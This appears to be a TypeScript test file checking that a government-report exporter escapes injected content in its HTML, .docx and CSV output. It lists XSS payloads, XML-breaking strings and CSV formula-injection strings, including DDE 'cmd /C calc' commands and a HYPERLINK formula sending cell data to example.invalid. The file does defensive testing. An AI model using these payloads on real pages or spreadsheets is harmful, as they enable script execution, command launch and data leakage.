/**
 * Injection: whatever a cell, the body's name or the user's text holds, the HTML page runs no
 * script and keeps its structure, the .docx stays well-formed with the text as text, and no CSV
 * field starts like a formula — while real negative numbers stay numbers.
 */
import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import ExcelJS from 'exceljs';
import { parse } from 'parse5';
import { chromium } from 'playwright-core';
import { checkReport } from '../../src/core/check';
import { exportReport, type ExportableReport } from '../../src/core/export';
import type { RawValue } from '../../src/core/import/grid';
import { readHtml } from '../../src/core/import/html';
import { convertWithLibreOffice, sofficePath } from '../helpers/libreoffice';
import { ALLOWED, ALLOWED_ATTRS, attr, docxParts, elements, exportable, hasPoppler, parseCsv, pdfText, text, W, wAll, wText } from './helpers';

/** Script and markup in every form a page or a document could trip over. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  'javascript:alert(3)',
  '</td></tr></table><script>alert(4)</script>',
  '"><svg onload=alert(5)>',
  "' onmouseover='alert(6)' x='",
  '<!-- --><a href="javascript:alert(7)">点击</a>',
  '<style>body{display:none}</style>',
  '<iframe src="data:text/html,<script>alert(8)</script>"></iframe>',
  '</th><th onclick=alert(9)>',
  ']]><w:p><w:r><w:t>注入</w:t></w:r></w:p>',
  '</w:t></w:r></w:p><w:p><w:r><w:t>注入',
  '&lt;b&gt; &amp; &#x3C;script&#x3E;',
];
const BODY = '<script>alert("body")</script>某局</title><h1 onclick=alert(10)>';

/** Huaian's report with the payloads in cells of all three tables, the body's name and every text. */
function poisoned(): ExportableReport {
  const base = exportable('huaian-2024');
  const ids = ['t2.art20_1.rules.issued', 't2.art20_5.license.decisions', 't2.art20_8.fees.amount', 't3.received.natural', 't3.granted.total', 't3.denied5.legal', 't3.other1.research', 't3.resultTotal.total', 't3.carriedOver.otherOrg', 't4.review.upheld', 't4.suitDirect.total', 't4.suitAfterReview.pending', 't4.suitAfterReview.total'];
  const raw = { ...base.raw };
  ids.forEach((id, k) => (raw[id] = PAYLOADS[k % PAYLOADS.length]));
  const findings = checkReport({ grids: [], cells: raw, meta: { format: '2021', year: 2024 } }).findings;
  return {
    ...base,
    body: BODY,
    raw,
    findings,
    narrative: { 三: PAYLOADS.slice(0, 4).join(' ') },
    userSections: { 一: PAYLOADS[4], 五: PAYLOADS[10], 六: PAYLOADS[11] },
    date: PAYLOADS[1],
  };
}
const PAYLOAD_CELLS = (report: ExportableReport): [string, string][] => Object.entries(report.raw).filter((e): e is [string, string] => typeof e[1] === 'string' && PAYLOADS.includes(e[1]));

describe('HTML', () => {
  let html: string;
  const report = poisoned();
  beforeAll(async () => {
    html = (await exportReport(report, 'html', { reason: '注入测试<script>alert(11)</script>' })).bytes as string;
  });

  test('the page parses to nothing but the allowed elements and attributes: no script, handler, frame or URL', () => {
    const all = elements(parse(html));
    expect(all.filter((e) => !ALLOWED.has(e.tagName)).map((e) => e.tagName)).toEqual([]);
    expect(all.flatMap((e) => e.attrs).filter((a) => !ALLOWED_ATTRS.has(a.name))).toEqual([]);
    expect(all.flatMap((e) => e.attrs).filter((a) => /javascript:|alert/i.test(a.value))).toEqual([]);
    expect(all.filter((e) => e.tagName === 'table')).toHaveLength(3);
    expect(all.filter((e) => e.tagName === 'style')).toHaveLength(1);
    expect(text(all.find((e) => e.tagName === 'title')!)).toBe(`${BODY}2024年政府信息公开工作年度报告`);
    expect(text(all.find((e) => e.tagName === 'h1')!)).toBe(`${BODY}2024年政府信息公开工作年度报告`);
  });

  test('each payload is text in its own cell, read back exactly by the checker', () => {
    const all = elements(parse(html));
    for (const [id, payload] of PAYLOAD_CELLS(report)) {
      expect(text(all.find((e) => attr(e, 'data-cell') === id)!)).toBe(payload);
    }
    const back = checkReport(readHtml(html));
    for (const [id, payload] of PAYLOAD_CELLS(report)) expect(back.raw[id]).toBe(payload);
    expect(Object.keys(back.raw)).toHaveLength(Object.keys(report.raw).length);
  });

  test('in a browser, with the page’s own policy removed, nothing runs and the text shows as written', async () => {
    if (!fs.existsSync('/usr/bin/chromium')) throw new Error('Chromium is not installed: apt-get install chromium fonts-noto-cjk (or run .ci/run)');
    const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', headless: true, args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'] });
    try {
      const page = await browser.newPage();
      const dialogs: string[] = [];
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      const requests: string[] = [];
      await page.route('**/*', (route) => {
        requests.push(route.request().url());
        void route.abort();
      });
      // Escaping alone must hold: take away the Content-Security-Policy that would also stop scripts.
      await page.setContent(html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''), { waitUntil: 'load' });
      await page.mouse.move(200, 200);
      await page.waitForTimeout(200);
      expect(dialogs).toEqual([]);
      expect(requests).toEqual([]);
      expect(await page.evaluate(() => document.querySelectorAll('script, img, svg, iframe, a, [onclick], [onerror], [onload], [onmouseover]').length)).toBe(0);
      const shown = await page.evaluate(() => Array.from(document.querySelectorAll('td[data-cell]')).map((td) => [td.getAttribute('data-cell'), td.textContent]));
      for (const [id, payload] of PAYLOAD_CELLS(report)) expect(shown).toContainEqual([id, payload]);
    } finally {
      await browser.close();
    }
  });
});

describe('.docx', () => {
  const report = poisoned();
  const controls = { ...report, raw: { ...report.raw, 't3.received.commercial': 'a\u0001b\u000Bc\uFFFFd\uD800e' } };
  let bytes: Uint8Array;
  beforeAll(async () => {
    bytes = (await exportReport(controls, 'docx', { reason: '注入测试' })).bytes as Uint8Array;
  });

  test('every part is well-formed XML, with the structure of a clean report', async () => {
    const parts = docxParts(bytes, { replaced: true });
    const body = wAll(parts['word/document.xml'], 'body')[0];
    const clean = docxParts((await exportReport(exportable('huaian-2024', { body: '某局', narrative: { 三: '甲' }, userSections: { 一: '乙', 五: '丙', 六: '丁' }, date: '戊' }), 'docx')).bytes as Uint8Array);
    const cleanBody = wAll(clean['word/document.xml'], 'body')[0];
    for (const tag of ['tbl', 'tr', 'tc', 'p']) expect([tag, wAll(body, tag).length]).toEqual([tag, wAll(cleanBody, tag).length]);
    // The injected markup did not become elements.
    expect(wAll(body, 'p').some((p) => wText(p) === '注入')).toBe(false);
  });

  test('each payload is the text of its cell; characters XML cannot hold are replaced, a vertical tab breaks the line', () => {
    const doc = docxParts(bytes, { replaced: true })['word/document.xml'];
    const cells = wAll(doc, 'tc').map(wText);
    for (const [, payload] of PAYLOAD_CELLS(report)) expect(cells).toContain(payload);
    const control = wAll(doc, 'tc').find((tc) => wText(tc).startsWith('a\uFFFDb'))!;
    expect(wText(control)).toBe('a\uFFFDbc\uFFFDd\uFFFDe');
    expect(wAll(control, 'br')).toHaveLength(1);
    const paragraphs = wAll(doc, 'p').map(wText);
    expect(paragraphs[0]).toBe(`${BODY}2024年政府信息公开工作年度报告`);
    expect(paragraphs).toEqual(expect.arrayContaining([PAYLOADS[4], PAYLOADS[10], PAYLOADS[11], PAYLOADS.slice(0, 4).join(' '), PAYLOADS[1]]));
    const core = docxParts(bytes, { replaced: true })['docProps/core.xml'];
    expect(core.getElementsByTagNameNS('http://purl.org/dc/elements/1.1/', 'title')[0].textContent).toBe(`${BODY}2024年政府信息公开工作年度报告`);
    expect(W).toContain('wordprocessingml');
  });

  test('LibreOffice opens it and prints the payloads as text', () => {
    if (!sofficePath() || !hasPoppler()) throw new Error('LibreOffice Writer and poppler-utils are needed: run .ci/run');
    const printed = pdfText(convertWithLibreOffice(bytes, 'pdf', 'report.docx')).replace(/\s+/g, '');
    for (const payload of ['<script>alert(1)</script>', ']]><w:p><w:r><w:t>注入</w:t></w:r></w:p>', '某局</title>']) expect(printed).toContain(payload.replace(/\s+/g, ''));
  });
});

describe('CSV', () => {
  const FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"点击")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1,"2"\r\n3'];
  const base = exportable('wutuan-2019');
  const ids = [...Object.keys(base.raw)].filter((id) => id.startsWith('t3.'));
  const raw: Record<string, RawValue> = { ...base.raw, 't2.art20_5.license.change': -4, 't2.art20_5.otherServices.change': '减4', 't2.art20_6.penalty.change': '-4', 't2.art20_6.enforcement.change': '+3', 't2.art20_8.fees.change': '增3' };
  FORMULAS.forEach((f, k) => (raw[ids[k]] = f));
  const report = { ...base, body: '=cmd|', raw, findings: checkReport({ grids: [], cells: raw, meta: { format: '2019', year: 2019 } }).findings };
  let rows: string[][];
  beforeAll(async () => {
    rows = parseCsv(((await exportReport(report, 'csv', { reason: '注入测试' })).bytes as string).slice(1));
  });

  test('no text field starts like a formula; 数值 holds plain numbers only, 原文 text or a plain number', () => {
    const number = /^-?\d+(\.\d+)?$/;
    for (const r of rows.slice(1)) {
      for (const k of [0, 1, 2]) expect([r[0], k, /^[=+\-@\t\r]/.test(r[k])]).toEqual([r[0], k, false]);
      expect(r[3]).toMatch(/^(-?\d+(\.\d+)?)?$/);
      expect([r[0], number.test(r[4]) || !/^[=+\-@\t\r]/.test(r[4])]).toEqual([r[0], true]);
    }
    FORMULAS.forEach((f, k) => expect(rows.find((r) => r[0] === ids[k])?.slice(3)).toEqual(['', `'${f}`]));
  });

  test('本年增/减: −4 stays −4 under 数值, whether written as a number, 减4 or -4; 原文 keeps the text, neutralised', () => {
    const at = (id: string): string[] | undefined => rows.find((r) => r[0] === id)?.slice(3);
    expect(at('t2.art20_5.license.change')).toEqual(['-4', '-4']);
    expect(at('t2.art20_5.otherServices.change')).toEqual(['-4', '减4']);
    expect(at('t2.art20_6.penalty.change')).toEqual(['-4', "'-4"]);
    expect(at('t2.art20_6.enforcement.change')).toEqual(['3', "'+3"]);
    expect(at('t2.art20_8.fees.change')).toEqual(['3', '增3']);
  });

  test('LibreOffice opens the CSV with no formula in it, the payloads as text and the numbers as numbers', async () => {
    const soffice = sofficePath();
    if (!soffice) throw new Error('LibreOffice is needed: run .ci/run');
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'nianbao-csv-'));
    try {
      fs.writeFileSync(path.join(dir, 'cells.csv'), (await exportReport(report, 'csv', { reason: '注入测试' })).bytes as string);
      execFileSync(soffice, [`-env:UserInstallation=file://${path.join(dir, 'profile')}`, '--headless', '--norestore', '--infilter=CSV:44,34,76,1', '--convert-to', 'xlsx', '--outdir', dir, path.join(dir, 'cells.csv')], { stdio: 'pipe', timeout: 120_000 });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(path.join(dir, 'cells.xlsx'));
      const sheet = workbook.worksheets[0];
      let formulas = 0;
      const byId = new Map<string, unknown[]>();
      sheet.eachRow((row) => {
        row.eachCell((cell) => (formulas += cell.type === ExcelJS.ValueType.Formula ? 1 : 0));
        // LibreOffice writes text in two scripts as rich text.
        const value = (v: ExcelJS.CellValue): unknown => (v !== null && typeof v === 'object' && 'richText' in v ? v.richText.map((r) => r.text).join('') : v);
        byId.set(String(value(row.getCell(1).value)), [value(row.getCell(4).value), value(row.getCell(5).value)]);
      });
      expect(formulas).toBe(0);
      expect(byId.size).toBe(rows.length);
      expect(byId.get('t2.art20_5.license.change')).toEqual([-4, -4]);
      expect(byId.get(ids[0])).toEqual([null, `'${FORMULAS[0]}`]);
      expect(byId.get('t3.carriedOver.total')).toEqual([0, 0]);
      expect(byId.get('t2.art20_1.normative.totalPublished')).toEqual([23, 23]);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
